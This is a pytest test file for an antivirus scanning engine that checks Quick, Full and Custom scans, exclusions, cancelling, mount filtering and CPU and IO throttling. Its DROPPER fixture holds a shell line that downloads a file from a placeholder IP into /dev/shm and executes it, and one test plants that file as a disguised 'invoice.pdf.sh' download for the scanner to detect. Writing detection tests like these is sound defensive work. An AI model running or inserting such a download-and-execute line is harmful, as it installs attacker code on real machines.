"""Quick, Full and Custom scans on real files: targets, records, cancel and the cost bounds."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from garrison.agent.protection.engine import EICAR_THREAT, Engine
from garrison.agent.protection.hashes import FileHashes, HashReputation
from garrison.agent.protection.rulepack import load_pack
from garrison.agent.protection.scan import RateCap, Scan, ScanRecord, lower_priority
from garrison.agent.protection.targets import local_mounts, process_images, quick_targets
from tests.agent.protection.samples import EICAR, RULES, plague_sample

DROPPER = b"#!/bin/sh\nwget -q http://203.0.113.9/k -O /dev/shm/.k && sh /dev/shm/.k\n"


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    hashes = HashReputation()
    hashes.add(FileHashes.of(DROPPER).sha256, "Garrison test dropper")
    return Engine(load_pack(RULES, tmp_path_factory.mktemp("cache")), hashes)


def tree(base: Path) -> Path:
    (base / "srv/app/lib").mkdir(parents=True)
    (base / "srv/app/README").write_text("clean\n")
    (base / "srv/app/lib/libx.so").write_bytes(os.urandom(4096))
    (base / "srv/app/eicar.com").write_bytes(EICAR)
    (base / "srv/app/lib/plague").write_bytes(plague_sample())
    (base / "srv/dropper.sh").write_bytes(DROPPER)
    (base / "srv/loop").symlink_to("/")  # never followed
    return base


def test_custom_scan_finds_each_engine_and_records_it(engine: Engine, tmp_path: Path) -> None:
    base = tree(tmp_path)
    rec = Scan(engine, "Custom", [str(base / "srv")], nice=0).run()
    assert rec.state == "Completed" and rec.scan_type == "Custom"
    assert rec.files_scanned == 5 and rec.errors == 0
    assert rec.bytes_scanned == sum(p.stat().st_size for p in (base / "srv").rglob("*") if p.is_file()
                                    and not p.is_symlink())
    found = {(d["threat_name"], d["engine"], d["path"]) for d in rec.detections}
    assert found == {
        (EICAR_THREAT, "eicar", f"{base}/srv/app/eicar.com"),
        ("MAL_LNX_PLAGUE_BACKDOOR_Jul25", "yara", f"{base}/srv/app/lib/plague"),
        ("Garrison test dropper", "hash", f"{base}/srv/dropper.sh"),
    }
    assert rec.detections_count == 3 and rec.duration_s > 0 and rec.started <= rec.ended
    assert rec.engine["rulePacks"][0].startswith("rules@0+") and rec.engine["hashes"] == 1


def test_exclusions_and_scan_type_validation(engine: Engine, tmp_path: Path) -> None:
    base = tree(tmp_path)
    rec = Scan(engine, "Custom", [str(base / "srv")], exclude=[str(base / "srv/app")], nice=0).run()
    assert [d["threat_name"] for d in rec.detections] == ["Garrison test dropper"]
    for scan_type, paths in (("Custom", []), ("Custom", ["relative/path"]), ("Deep", ["/tmp"])):
        with pytest.raises(ValueError):
            Scan(engine, scan_type, paths)


def test_cancel_stops_between_files(engine: Engine, tmp_path: Path) -> None:
    for i in range(50):
        (tmp_path / f"f{i:02}").write_bytes(b"x" * 100)
    seen: list[ScanRecord] = []

    def progress(rec: ScanRecord, current: str) -> None:
        seen.append(rec)
        if rec.files_scanned >= 3:
            scan.cancel()

    scan = Scan(engine, "Custom", [str(tmp_path)], progress=progress, progress_every=0, nice=0)
    rec = scan.run()
    assert rec.state == "Cancelled" and rec.files_scanned == 3 and seen[-1] is rec


def test_quick_scan_covers_autostart_preload_and_downloads(engine: Engine, tmp_path: Path) -> None:
    root = tmp_path / "root"
    for d in ("etc/systemd/system", "opt/svc", "usr/lib/x86_64-linux-gnu", "etc/cron.d", "home/alice/Downloads",
              "tmp", "var/lib/big"):
        (root / d).mkdir(parents=True)
    (root / "etc/systemd/system/svc.service").write_text(
        "[Service]\nExecStartPre=-/opt/svc/prepare\nExecStart=/opt/svc/daemon --flag\n")
    (root / "opt/svc/daemon").write_bytes(plague_sample())
    (root / "opt/svc/prepare").write_text("#!/bin/sh\n")
    (root / "etc/ld.so.preload").write_text("# hooks\n/usr/lib/x86_64-linux-gnu/libhook.so\n")
    (root / "usr/lib/x86_64-linux-gnu/libhook.so").write_bytes(EICAR)
    (root / "etc/cron.d/job").write_text("* * * * * root /tmp/x\n")
    (root / "home/alice/Downloads/invoice.pdf.sh").write_bytes(DROPPER)
    (root / "var/lib/big/eicar").write_bytes(EICAR)  # not a Quick scan location
    targets = quick_targets(root)
    assert {"/etc/systemd/system", "/opt/svc/daemon", "/opt/svc/prepare", "/etc/ld.so.preload",
            "/usr/lib/x86_64-linux-gnu/libhook.so", "/etc/cron.d", "/tmp",
            "/home/alice/Downloads"} <= set(targets)
    rec = Scan(engine, "Quick", root=root, nice=0).run()
    assert {(d["threat_name"], d["path"]) for d in rec.detections} == {
        ("MAL_LNX_PLAGUE_BACKDOOR_Jul25", "/opt/svc/daemon"),
        (EICAR_THREAT, "/usr/lib/x86_64-linux-gnu/libhook.so"),
        ("Garrison test dropper", "/home/alice/Downloads/invoice.pdf.sh"),
    }


def test_quick_scan_reads_the_running_processes_images() -> None:
    images = process_images()
    assert os.path.realpath(sys.executable) in images


def test_full_scan_skips_virtual_file_systems() -> None:
    scan, skip = local_mounts(Path("/proc/self/mountinfo").read_text())
    assert "/" in scan and "/proc" in skip and "/sys" in skip
    lines = [
        "22 1 8:1 / / rw,relatime shared:1 - ext4 /dev/sda1 rw",
        "23 22 0:21 / /proc rw - proc proc rw",
        "24 22 0:22 / /run rw - tmpfs tmpfs rw",
        "25 24 0:23 / /run/user/0 rw - tmpfs tmpfs rw",
        "26 22 0:24 / /dev/shm rw - tmpfs tmpfs rw",
        "27 22 0:25 / /tmp rw - tmpfs tmpfs rw",
        "28 22 0:26 / /sys/fs/cgroup rw - cgroup2 cgroup2 rw",
        "29 22 8:1 / /mnt/again rw - ext4 /dev/sda1 rw",  # bind mount of / again
        "30 22 8:2 / /home\\040data rw - xfs /dev/sda2 rw",
        "31 22 0:40 / /mnt/share rw - nfs4 files:/export rw",
        "32 22 0:41 / /mnt/win rw - cifs //nas/c rw",
    ]
    sample = "\n".join(lines)
    assert local_mounts(sample) == (["/", "/dev/shm", "/tmp", "/home data"],
                                    ["/proc", "/run", "/run/user/0", "/sys/fs/cgroup", "/mnt/again", "/mnt/share",
                                     "/mnt/win"])


def test_a_scan_thread_lowers_its_own_cpu_and_io_priority() -> None:
    got: dict[str, object] = {}

    def body() -> None:
        got["done"] = lower_priority(10)
        tid = threading.get_native_id()
        got["nice"] = os.getpriority(os.PRIO_PROCESS, tid)
        import ctypes
        got["ioprio"] = ctypes.CDLL(None, use_errno=True).syscall(252, 1, tid)  # ioprio_get (x86_64)

    t = threading.Thread(target=body)
    t.start()
    t.join()
    assert got["done"] == {"nice": True, "ionice": True}
    assert got["nice"] == 10 and got["ioprio"] == (2 << 13) | 7
    assert os.getpriority(os.PRIO_PROCESS, threading.get_native_id()) == 0  # the caller's thread untouched


def test_the_rate_cap_waits_for_what_exceeds_the_rate() -> None:
    now = [0.0]
    sleeps: list[float] = []

    def sleep(s: float) -> None:
        sleeps.append(s)
        now[0] += s

    cap = RateCap(1_000_000, clock=lambda: now[0], sleep=sleep)
    cap.take(500_000)  # within the first second's allowance
    assert sleeps == []
    cap.take(1_500_000)  # 1 MB over: one second of waiting
    assert sleeps == [pytest.approx(1.0)]
    RateCap(0).take(10**12)  # no cap


def test_a_running_process_whose_file_was_deleted_is_still_scanned(tmp_path: Path) -> None:
    """Malware often deletes its file once running: the Quick scan reads the image through the process."""
    miner = tmp_path / "kworker-miner"
    shutil.copy("/usr/bin/sleep", miner)
    hashes = HashReputation()
    hashes.add(FileHashes.of(miner.read_bytes()).sha256, "Test miner (deleted after start)")
    proc = subprocess.Popen([str(miner), "60"])
    try:
        miner.unlink()
        image = f"/proc/{proc.pid}/exe"
        assert image in process_images()
        rec = Scan(Engine(hashes=hashes), "Custom", [image], nice=0).run()
        assert [(d["threat_name"], d["path"]) for d in rec.detections] == [("Test miner (deleted after start)", image)]
    finally:
        proc.kill()
        proc.wait()
    # Elsewhere symlinks are still never followed.
    (tmp_path / "link").symlink_to("/usr/bin/sleep")
    assert Scan(Engine(hashes=hashes), "Custom", [str(tmp_path)], nice=0).run().files_scanned == 0
